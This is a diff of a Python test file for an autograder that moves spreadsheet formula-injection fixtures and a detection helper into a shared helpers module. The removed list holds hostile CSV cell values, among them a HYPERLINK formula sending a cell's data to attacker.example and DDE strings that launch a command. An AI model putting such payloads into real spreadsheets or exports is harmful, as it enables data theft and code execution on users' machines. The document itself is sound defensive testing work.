@@ -17,7 +17,6 @@ old choice of cells), then failing with it.
 
 import ast
 import csv
-import re
 import zipfile
 from pathlib import Path
 
@@ -35,19 +34,11 @@ from autograder.engine.submission import Problem
 from autograder.engine.submission_files import FILES_METADATA
 from autograder.instructor import grades, insights, late, lms, similarity
 from tests import similarity_class
+from tests.helpers import FORMULAS, formulas
 
 LESSON = "01_embedding"
 NOTEBOOK = lessons.notebook_name(LESSON)
 # What learners set as their names in Canvas or Moodle, or as a file's name in an upload.
-FORMULAS = [
-    '=HYPERLINK("https://attacker.example/?"&A3,"Ada")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-]
-NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(e[-+][0-9]+)?")
 # What a submission's code raises: cursor up, erase the line, a window title, then lines that
 # read as the grader's, one of them about an honest student.
 FORGED = "No problems: every submission was graded as handed in."
@@ -73,16 +64,6 @@ def _forward(self, *args, **kwargs):
 
 Embedding.forward = _forward
 """
-
-
-def formulas(path: Path) -> list[str]:
-    """The cells of a CSV file that a spreadsheet would run: they start as a formula and are not
-    a number."""
-    with path.open(newline="", encoding="utf-8") as handle:
-        cells = [cell for row in csv.reader(handle) for cell in row]
-    return [
-        cell for cell in cells if cell.startswith(csv_files.FORMULA_STARTS) and not NUMBER.fullmatch(cell)
-    ]
 
 
 def _plain_cell(value: csv_files.Cell) -> str:
